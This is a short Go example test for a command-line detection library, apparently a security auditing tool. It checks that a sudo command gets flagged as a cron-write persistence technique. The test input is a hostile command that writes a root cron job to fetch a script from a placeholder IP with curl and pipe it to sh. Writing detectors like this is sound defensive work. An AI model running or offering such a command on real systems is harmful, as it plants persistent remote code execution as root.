package cmdline_test

import (
	"fmt"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

func Example() {
	cmd := cmdline.FromSudo(`/usr/bin/sh -c 'echo \'* * * * * root curl -s http://192.0.2.7/i.sh | sh\' > /etc/cron.d/upd'`)
	for _, h := range cmdline.DefaultRules().Match(cmd) {
		fmt.Println(h.Severity, h.Rule, h.Techniques, h.Target)
	}
	// Output:
	// medium cron-write [T1053.003] /etc/cron.d/upd
}
